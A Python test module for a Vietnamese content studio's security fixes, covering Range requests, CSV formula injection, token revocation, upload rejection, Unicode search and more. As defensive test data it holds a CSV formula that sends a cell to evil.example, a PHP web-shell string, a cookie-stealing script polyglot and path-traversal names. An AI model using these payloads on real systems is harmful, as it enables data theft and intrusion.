"""Security and integrity (issue 11, the parts done so far): Range past the end, store errors before the first
byte, CSV formula injection, co-authors approving, sessions and tokens after a password change, private
files, language codes of translation packages. Real SeaweedFS, espeak-ng and ffmpeg."""
from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from sqlalchemy import select

from storage.models import User
from tests.helpers import new_work
from tests.web.test_api import auth, token_for
from tests.services.test_rendering import jobs_of, render


def rendered_file(web, db_session) -> tuple[int, str]:
    web.login("editor")
    wid = new_work(web, body="Xã tổ chức tiêm chủng cho trẻ em.")
    render(web, wid)
    job = jobs_of(db_session, wid)[0]
    assert job.state == "succeeded", job.error
    return job.rendition_id, f"/renditions/{job.rendition_id}/0"


def test_ranges_past_the_end_are_refused_and_store_errors_come_before_the_body(web, users, db_session, app):
    _, url = rendered_file(web, db_session)
    whole = web.get(url)
    size = len(whole.data)
    assert whole.status_code == 200 and size > 1000
    part = web.get(url, headers={"Range": "bytes=10-19"})
    assert part.status_code == 206 and part.data == whole.data[10:20]
    beyond = web.get(url, headers={"Range": f"bytes={size + 10}-{size + 20}"})
    assert beyond.status_code == 416 and beyond.headers["Content-Range"] == f"bytes */{size}" and not beyond.data
    # The store stops answering: a proper error response, not a 200 with a truncated body.
    from storage.objectstore import ObjectStore
    real = app.extensions["objectstore"]
    app.extensions["objectstore"] = ObjectStore.from_url("http://k:s@127.0.0.1:9/nothing", timeout=2)
    try:
        down = web.get(url, headers={"Accept": "application/json"})
    finally:
        app.extensions["objectstore"] = real
    assert down.status_code == 503 and down.get_json()["error"]["message"]
    assert "127.0.0.1:9" not in down.get_data(as_text=True)


def test_audit_csv_cells_cannot_run_as_formulas(web, make_web, users):
    attacker = make_web()
    for name in ('=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "@SUM(A1)", "-2+3"):
        attacker.login(name, "wrong password")
    web.login("admin")
    rows = list(csv.reader(io.StringIO(web.get("/admin/audit.csv").get_data(as_text=True))))
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'=hyperlink") for c in cells)  # user names are stored in lower case
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert "'+1+1" in cells and "'@sum(a1)" in cells and "'-2+3" in cells


def test_nobody_who_wrote_since_the_last_approval_approves(make_web, users, db_session):
    a, b = make_web(), make_web()
    a.login("editor")
    b.login("chief")  # an editor who is also an approver
    wid = new_work(a, body="Bản nháp đầu.")
    version = lambda: db_session.get(__import__("storage.models", fromlist=["Work"]).Work, wid).version  # noqa: E731
    db_session.expire_all()
    assert b.post(f"/works/{wid}/edit", {"title": "Thông báo", "body": "B sửa.", "kind": "article",
                                         "source_language": "vi", "priority": "normal",
                                         "version": version()}).status_code == 302
    db_session.expire_all()
    assert a.post(f"/works/{wid}/edit", {"title": "Thông báo", "body": "A sửa lại.", "kind": "article",
                                         "source_language": "vi", "priority": "normal",
                                         "version": version()}).status_code == 302
    assert a.post(f"/works/{wid}/transition", {"action": "submit"}).status_code == 302
    refused = b.post(f"/works/{wid}/transition", {"action": "approve"})
    assert refused.status_code == 403 and "từ lần duyệt trước" in refused.get_data(as_text=True)
    other = make_web()
    other.login("approver")
    assert other.post(f"/works/{wid}/transition", {"action": "approve"}).status_code == 302


def test_a_new_password_ends_sessions_and_tokens(web, make_web, users, app):
    web.login("editor")
    token = token_for(make_web(), "editor")
    assert web.get("/works").status_code == 200
    assert web.client.get("/api/v1/works", headers=auth(token)).status_code == 200
    from studio.extensions import db
    from studio.services import Caller, accounts
    with app.app_context():
        admin = db.session.get(User, users["admin"])
        accounts.update_user(db.session, Caller(admin), users["editor"], password="a brand new password")
        db.session.commit()
    assert web.get("/works").status_code == 302  # back to the login page
    assert web.client.get("/api/v1/works", headers=auth(token)).status_code == 401
    again = make_web()
    assert again.login("editor", "a brand new password").status_code == 302


def test_revoke_all_tokens_in_one_action(web, make_web, users):
    tokens = [token_for(make_web(), "editor") for _ in range(2)]
    web.login("editor")
    page = web.post("/account/tokens", {"revoke_all": "1"}).get_data(as_text=True)
    assert "Đã thu hồi 2 mã truy cập." in page
    assert all(web.client.get("/api/v1/works", headers=auth(t)).status_code == 401 for t in tokens)


def test_database_and_instance_are_private(app):
    instance = app.config["INSTANCE"]
    db_file = app.config["SQLALCHEMY_DATABASE_URI"][len("sqlite:///"):]
    assert stat.S_IMODE(os.stat(db_file).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(instance).st_mode) == 0o700


@pytest.mark.parametrize("code", ["../../etc", "vi/..", "VI", "v", "vi_VN", "x" * 9, ""])
def test_translation_packages_must_name_language_codes(tmp_path, code):
    from media_pipeline.translate import argos
    folder = tmp_path / "pkg"
    folder.mkdir()
    (folder / "metadata.json").write_text(json.dumps({"type": "translate", "from_code": code, "to_code": "en"}))
    with pytest.raises(argos.PackageInvalid, match="language code"):
        argos.read_metadata(folder)
    (folder / "metadata.json").write_text(json.dumps({"type": "translate", "from_code": "zh-Hant", "to_code": "en"}))
    assert argos.read_metadata(folder)["from_code"] == "zh-Hant"


def test_api_refuses_bad_ids_and_versions_with_4xx(web, make_web, users):
    ed = token_for(make_web(), "editor")
    wid = web.client.post("/api/v1/works", json={"title": "Thông báo", "body": "Nội dung."},
                          headers=auth(ed)).json["id"]
    assert web.client.get("/api/v1/works/18850708888012668911348613120", headers=auth(ed)).status_code == 404
    assert web.client.get("/api/v1/jobs/99999999999999999999", headers=auth(ed)).status_code == 404
    for bad in ({}, [], "x", -1, True, 1.5, "99999999999999999999"):
        r = web.client.put(f"/api/v1/works/{wid}", json={"title": "Mới", "version": bad}, headers=auth(ed))
        assert r.status_code == 400 and r.json["error"]["field"] == "version", (bad, r.status_code)
        r = web.client.post(f"/api/v1/works/{wid}/transitions", json={"action": "submit", "version": bad},
                            headers=auth(ed))
        assert r.status_code == 400 and r.json["error"]["field"] == "version", (bad, r.status_code)


def race_saves(base: str, token: str, clients: int = 8, saves: int = 10) -> tuple[int, list[int]]:
    """`clients` API clients each save one work `saves` times, each from the version it just read."""
    import threading

    import requests
    h = auth(token)
    wid = requests.post(f"{base}/api/v1/works", json={"title": "Đua", "body": "0"}, headers=h,
                        timeout=30).json()["id"]
    statuses: list[int] = []

    def client(n: int) -> None:
        with requests.Session() as s:
            for i in range(saves):
                version = s.get(f"{base}/api/v1/works/{wid}", headers=h, timeout=30).json()["version"]
                r = s.put(f"{base}/api/v1/works/{wid}", json={"body": f"{n}-{i}", "version": version},
                          headers=h, timeout=30)
                statuses.append(r.status_code)
    threads = [threading.Thread(target=client, args=(n,)) for n in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return wid, statuses


def test_concurrent_saves_of_one_work_answer_409_never_500(make_web, users, live_server, db_session):
    """Eight clients save the same work 80 times over HTTP: each answer is 200 or 409, and every 200 is one
    revision in the history (nothing accepted is lost, nothing refused is half-written)."""
    wid, statuses = race_saves(live_server, token_for(make_web(), "editor"))
    assert set(statuses) <= {200, 409} and statuses.count(200) >= 1, sorted(set(statuses))
    from storage.models import Revision
    revisions = db_session.scalars(select(Revision).where(Revision.work_id == wid)).all()
    assert len(revisions) == 1 + statuses.count(200)


def _real_mp3(tmp_path):
    from tests.helpers import make_tone
    return make_tone(tmp_path / "tone.mp3", 2.0).read_bytes()


BAD_UPLOADS = {  # name: (content maker, expected status) — the catalogue later changes run against
    "empty.mp3": (lambda tmp: b"", 415),
    "forged.png": (lambda tmp: b"\x89PNG\r\n\x1a\n" + b"not really a picture" * 50, 415),
    "truncated.mp3": (lambda tmp: _real_mp3(tmp)[:200], 415),
    "script.mp4": (lambda tmp: b"<?php system($_GET['c']); ?>" * 20, 415),
    "polyglot.jpg": (lambda tmp: b"GIF89a<script>alert(document.cookie)</script>" + b"\x00" * 64, 415),
    "tên tệp ../../etc/passwd.wav": (lambda tmp: b"RIFF\x00\x00\x00\x00WAVEfmt " + b"\x01" * 40, 415),
}


@pytest.mark.parametrize("name", sorted(BAD_UPLOADS))
def test_refused_uploads_say_what_is_wrong_without_server_details(web, users, tmp_path, name):
    make, status = BAD_UPLOADS[name]
    path = tmp_path / "upload.bin"
    path.write_bytes(make(tmp_path))
    web.login("editor")
    wid = new_work(web)
    with open(path, "rb") as f:
        resp = web.post(f"/works/{wid}/assets", {"file": (f, name)}, content_type="multipart/form-data",
                        headers={"X-Requested-With": "XMLHttpRequest"})
    assert resp.status_code == status
    message = resp.get_json()["error"]["message"]
    assert message and not any(leak in message for leak in ("/tmp", str(tmp_path), "ffprobe", "Invalid data",
                                                            "cannot identify", "Traceback", "moov atom"))
    assert any(word in message for word in ("Tệp", "tệp"))  # said in the user's language (Vietnamese)


def test_reports_for_packages_the_endpoint_was_never_sent_are_refused_per_item(web, make_web, users, app,
                                                                               db_session):
    from storage.models import Package
    from tests.services.test_emergency import loudspeaker_token, publish
    web.login("editor")
    wid = new_work(web, title="Loa", body="Thông báo lịch tiêm chủng.", channels=["loudspeaker"])
    publish(make_web, wid)
    package = db_session.scalar(select(Package).where(Package.work_id == wid))
    sha = package.manifest["files"][0]["sha256"]
    token = loudspeaker_token(app)
    play = {"type": "play", "outcome": "played", "start": "2026-11-23T01:00:00Z", "end": "2026-11-23T01:01:00Z"}
    body = {"reports": [{**play, "id": "a", "package": package.id, "file": sha},
                        {**play, "id": "b", "package": package.id + 1000, "file": sha},
                        {**play, "id": "c", "package": package.id, "file": "0" * 64}]}
    r = web.client.post("/api/v1/reports", json=body, headers=auth(token))
    assert r.status_code == 200
    assert r.json["stored"] == 1
    assert [(x["id"], x["code"]) for x in r.json["refused"]] == [("b", "not_sent"), ("c", "not_sent")]


def test_decomposed_text_is_stored_composed_and_found(web, make_web, users, app, db_session):
    """Titles, bodies, segments, glossary terms and names typed in NFD (some keyboards, pasted PDFs) are stored
    in NFC, so a search typed the usual way finds them."""
    import unicodedata

    from storage.models import Area, GlossaryTerm, Translation, Work
    nfd = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731
    web.login("editor")
    wid = new_work(web, title=nfd("Phòng chống bệnh sởi"), body=nfd("Tiêm vắc-xin sởi cho trẻ."))
    work = db_session.get(Work, wid)
    assert work.title == "Phòng chống bệnh sởi" and unicodedata.is_normalized("NFC", work.body)
    assert "Phòng chống bệnh sởi" in web.get("/works?q=bệnh sởi").get_data(as_text=True)
    assert "Phòng chống bệnh sởi" in web.get("/works?q=" + nfd("bệnh sởi")).get_data(as_text=True)
    from studio.extensions import db
    from studio.services import Caller, accounts, areas, glossary, translations
    with app.app_context():
        tr = Caller(db.session.get(User, users["translator"]))
        translations.start(db.session, tr, wid, "tyz")
        translations.save_segment(db.session, tr, wid, "tyz", 0, nfd("Phòng bệnh sởi (Tày)"))
        glossary.add(db.session, tr, "vi", "en", nfd("Ủy ban nhân dân"), "People's Committee")
        admin = Caller(db.session.get(User, users["admin"]))
        areas.create(db.session, admin, "ls", nfd("Lạng Sơn"), "province", None)
        user = accounts.create_user(db.session, admin, "bientap2", "long password!", ["editor"],
                                    nfd("Nguyễn Thị Hằng"))
        db.session.commit()
        assert user.display_name == "Nguyễn Thị Hằng"
    db_session.expire_all()
    seg = db_session.scalar(select(Translation).where(Translation.work_id == wid)).segments[0]["target"]
    assert seg == "Phòng bệnh sởi (Tày)"
    assert db_session.scalar(select(GlossaryTerm)).source == "Ủy ban nhân dân"
    assert db_session.scalar(select(Area).where(Area.code == "ls")).name == "Lạng Sơn"


@pytest.mark.parametrize("query", ["sởi", "SỞI", "soi", "Sởi", "BỆNH SOI", "đồng đăng", "dong dang", "DONG"])
def test_search_ignores_case_and_vietnamese_diacritics(web, users, db_session, query):
    web.login("editor")
    new_work(web, title="Phòng chống bệnh sởi ở Đồng Đăng", body="Tiêm vắc-xin.")
    new_work(web, title="Lịch cắt điện", body="Điện lực thông báo.")
    page = web.get(f"/works?q={query}").get_data(as_text=True)
    assert "Phòng chống bệnh sởi" in page and "Lịch cắt điện" not in page


def test_search_uses_the_trigram_index_on_sqlite(app, users):
    from sqlalchemy import text

    from studio.extensions import db
    with app.app_context():
        plan = db.session.execute(text("EXPLAIN QUERY PLAN SELECT rowid FROM works_search "
                                       "WHERE search_text LIKE '%benh soi%'")).fetchall()
    assert any("VIRTUAL TABLE INDEX" in str(row) for row in plan)
